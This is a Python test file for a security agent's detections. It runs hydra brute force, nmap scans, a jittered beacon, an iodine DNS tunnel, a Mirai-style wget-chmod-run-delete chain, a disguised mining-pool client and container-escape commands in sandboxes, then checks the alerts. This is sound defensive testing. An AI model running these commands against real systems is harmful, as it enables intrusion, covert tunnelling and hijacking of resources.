"""Tools that attackers use, run for real in a machine of their own under the real agent: the right alert comes of each."""
import socket
import time

import pytest
import sandbox as sandboxes
from peer import HERE, PEER
from watched import Watched

SSHD = """
set -e
useradd --create-home --shell /bin/sh guessed; echo 'guessed:sunshine' | chpasswd
touch /var/log/btmp /var/log/wtmp; chmod 660 /var/log/btmp /var/log/wtmp
mkdir -p /run/sshd; ssh-keygen -q -t ed25519 -N '' -f /tmp/host_key
printf 'one\\ntwo\\nthree\\nfour\\nfive\\nsix\\nseven\\neight\\nsunshine\\n' > /tmp/words.txt
"""


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def test_hydra_against_an_ssh_server_is_a_brute_force_that_succeeds():
    # The kernel tells of logins in the machine's own network only; all else is the sandbox'.
    with sandboxes.Sandbox(agent=True, network=False) as sandbox:
        sandbox.prepare(SSHD)
        port = free_port()
        server = sandbox.start(["/usr/sbin/sshd", "-D", "-e", "-h", "/tmp/host_key", "-o", f"ListenAddress=127.0.0.1:{port}", "-o",
                                "UsePAM=yes", "-o", "PasswordAuthentication=yes", "-o", "MaxStartups=50", "-f", "/dev/null"])
        try:
            sandbox.prepare(f"for i in $(seq 200); do nc -z 127.0.0.1 {port} && break; sleep 0.1; done")
            with Watched(sandbox, "hydra", about=("guessed",)) as watched:
                watched.run("hydra", "-t", "1", "-l", "guessed", "-P", "/tmp/words.txt", f"ssh://127.0.0.1:{port}", timeout_s=180)
            watched.raised("IoT_KnownAttackTools", "T1110")
            watched.raised("IoT_BruteForceFailed", "T1110.001")
            watched.raised("IoT_BruteForceSuccess", "T1110.001")
        finally:
            server.kill()
            server.wait()


@pytest.mark.parametrize("kind", ["-sT", "-sS"])
def test_nmap_across_the_wire_is_a_scan(sandbox, peer, kind):
    with Watched(sandbox, "nmap" + kind, about=(PEER,)) as watched:
        watched.run("nmap", "-n", "-Pn", kind, "-p", "1-60", PEER, timeout_s=120)
    watched.raised("IoT_KnownAttackTools", "T1046")
    watched.raised("IoT_NetworkScan", "T1046")


def test_a_renamed_scanner_is_told_by_what_it_does(sandbox, peer):
    sandbox.prepare("cp /usr/bin/nmap /tmp/sync")
    with Watched(sandbox, "renamed_scanner", about=(PEER,)) as watched:
        watched.run("/tmp/sync", "-n", "-Pn", "-sT", "-p", "100-160", PEER, timeout_s=120)
    watched.raised("IoT_NetworkScan", "T1046")


@pytest.mark.slow
def test_a_scan_slower_than_every_window_is_a_scan(sandbox, peer):
    with Watched(sandbox, "slow_scan", about=(PEER,)) as watched:
        watched.run("nmap", "-n", "-Pn", "-sT", "--max-retries", "0", "--scan-delay", "25s", "-p", "200-216", PEER, timeout_s=600)
    alert = watched.raised("IoT_NetworkScan", "T1046")
    assert alert["properties"]["Window"] == "24 h", "the walk over first contacts, not the window of minutes"


BEACON = """
import random, socket, time
end = time.time() + 420
while time.time() < end:
    with socket.create_connection(("%s", 9443), 5) as s:
        s.sendall(b"x" * random.randrange(180, 220)); s.recv(64)
    time.sleep(15 * random.uniform(0.8, 1.2))
""" % PEER


@pytest.mark.slow
def test_a_jittered_beacon_is_a_beacon(sandbox, peer):
    peer.serve(9443)
    with Watched(sandbox, "beacon", about=(f'"{PEER}", "RemotePort": "9443"', "9443"), timeout_s=180) as watched:
        watched.run("/usr/bin/python3", "-c", BEACON, timeout_s=600)
    watched.raised("IoT_Beaconing", "T1071")


def test_iodine_is_a_dns_tunnel(sandbox, peer):
    peer.start("iodined", "-f", "-c", "-P", "secret", "-l", PEER, "10.88.0.1/24", "t.example.org")
    sandbox.prepare("mkdir -p /dev/net; [ -e /dev/net/tun ] || mknod -m 666 /dev/net/tun c 10 200")
    time.sleep(1)
    with Watched(sandbox, "iodine", about=("t.example.org",)) as watched:
        watched.run("sh", "-c", f"timeout 40 iodine -f -r -P secret {PEER} t.example.org & "
                                "for i in $(seq 60); do ping -c 1 -W 1 10.88.0.1 && break; sleep 0.3; done; "
                                "ping -i 0.1 -s 400 -c 100 10.88.0.1; kill %1; wait", timeout_s=90)
    watched.raised("IoT_DnsTunnel", "T1071.004")


def test_fetch_chmod_run_delete_is_a_bot(sandbox, peer):
    body = b"#!/bin/sh\nexit 0\n"
    peer.serve(8000, b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
    with Watched(sandbox, "mirai_chain") as watched:
        watched.run("busybox", "sh", "-c", f"cd /tmp; busybox wget http://{PEER}:8000/dvr.arm7; cp /bin/true dvr.arm7; "
                    "busybox chmod 777 dvr.arm7; ./dvr.arm7 telnet; busybox rm -f dvr.arm7; true")
    alert = watched.raised("IoT_CommonBots", "T1105")
    assert alert["severity"] in ("Medium", "High")


STRATUM = """
import socket, sys
with socket.create_connection(("%s", 3333), 5) as s:
    for line in ('{"id":1,"method":"mining.subscribe","params":["x/1"]}', '{"id":2,"method":"mining.authorize","params":["w","x"]}'):
        s.sendall(line.encode() + b"\\n"); s.recv(256)
""" % PEER


def test_a_client_of_a_mining_pool_is_a_miner(sandbox, peer):
    peer.serve(3333, b'{"id":1,"result":true}\n', keep=True)
    sandbox.prepare("cp $(readlink -f /usr/bin/python3) /tmp/kworker")
    with Watched(sandbox, "stratum", about=(PEER,)) as watched:
        watched.run("/tmp/kworker", "-c", STRATUM, "-o", f"stratum+tcp://{PEER}:3333", "-u", "wallet")
    watched.raised("IoT_CryptoMiner", "T1496.001")


def test_a_miner_without_a_name_is_told_by_two_of_three_signs(sandbox, peer):
    peer.serve(14444, b'{"id":1,"result":true}\n', keep=True)
    sandbox.prepare("cp $(readlink -f /usr/bin/python3) /tmp/update")
    with Watched(sandbox, "miner_signs", about=(f"{PEER}",)) as watched:
        watched.run("sysctl", "-w", "vm.nr_hugepages=128")
        watched.run("/tmp/update", "-c", STRATUM.replace("3333", "14444"))
    alert = watched.raised("IoT_MinerBehavior", "T1496.001")
    assert "14444" in str(alert["properties"])


CONTAINER = [
    ("docker run --privileged alpine", "IoT_PrivilegedContainer", "T1611"),
    ("podman run -v /var/run/docker.sock:/var/run/docker.sock alpine", "IoT_PrivilegedContainer", "T1611"),
    ("docker run --pid=host alpine", "IoT_PrivilegedContainer", "T1611"),
    ("nsenter -t 1 -m -- true", "IoT_ContainerEscape", "T1611"),
    ("sh -c 'echo /cmd > /tmp/release_agent'", "IoT_ContainerEscape", "T1611"),
    ("sh -c 'echo x > /proc/sys/kernel/core_pattern'", "IoT_ContainerEscape", "T1611"),
    ("ls /proc/1/root/etc", "IoT_ContainerEscape", "T1611"),
    ("curl -s -m 1 --unix-socket /var/run/docker.sock http://x/containers/json", "IoT_ContainerEscape", "T1611"),
    ("docker ps -a", "IoT_SystemDiscovery", "T1613"),
    ("docker run alpine true", "IoT_ContainerStarted", "T1610"),
]


def test_every_sign_of_container_abuse_is_told(sandbox):
    import shlex
    sandbox.prepare("for p in docker podman curl; do cp /bin/true /usr/local/sbin/$p; done")
    for number, (command, alert, technique) in enumerate(CONTAINER):
        with Watched(sandbox, f"container_{number}") as watched:
            watched.run(*shlex.split(command))
        watched.raised(alert, technique)


def test_a_container_engine_that_listens_on_tcp_is_exposed(sandbox):
    with Watched(sandbox, "docker_port", about=('"LocalPort": "2375"',), timeout_s=360) as watched:
        engine = sandbox.start(["/usr/bin/python3", "-c",
                                "import socket,time; s=socket.socket(); s.bind(('0.0.0.0',2375)); s.listen(); time.sleep(400)"])
    try:
        watched.raised("IoT_ExposedDocker", "T1610")
    finally:
        engine.kill()
        engine.wait()
